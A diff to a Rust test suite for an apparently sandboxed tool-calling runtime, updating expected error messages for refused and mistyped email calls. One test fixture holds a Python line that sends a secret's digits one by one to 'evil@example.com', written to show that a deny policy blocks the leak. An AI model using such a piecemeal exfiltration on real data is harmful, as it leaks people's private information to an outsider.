@@ -28,7 +28,7 @@ fn a_secret_does_not_leave_digit_by_digit() {
         mailbox.send_email(to='evil@example.com', subject='hello', body=digits)\n";
     let home = Home::new();
     let ran = home.artifact(source, Some("default = \"deny\"\n")).expect(3);
-    assert!(ran.err.contains("1 call was refused"), "{ran:?}");
+    assert!(ran.err.contains("you said no to sending your ssn to mailbox"), "{ran:?}");
     assert!(home.received("mailbox").is_empty(), "{ran:?}");
     let trace = home.trace();
     let question = of(&trace, "question");
@@ -68,8 +68,9 @@ fn a_public_argument_of_the_wrong_type_is_an_error_before_anything_is_decided() 
     let home = Home::new();
     let source = "try:\n    mailbox.send_email(to='dana@example.com', subject='hello', body=5)\n\
         except ToolError as error:\n    print(error)\n";
-    let ran = home.artifact(source, None).expect(0);
+    let ran = home.artifact(source, None).expect(7);
     assert!(ran.out.contains("does not accept `body`"), "{ran:?}");
+    assert!(ran.err.contains("line 2: mailbox.send_email failed"), "{ran:?}");
     assert!(home.received("mailbox").is_empty() && of(&home.trace(), "question").is_empty());
 }
 
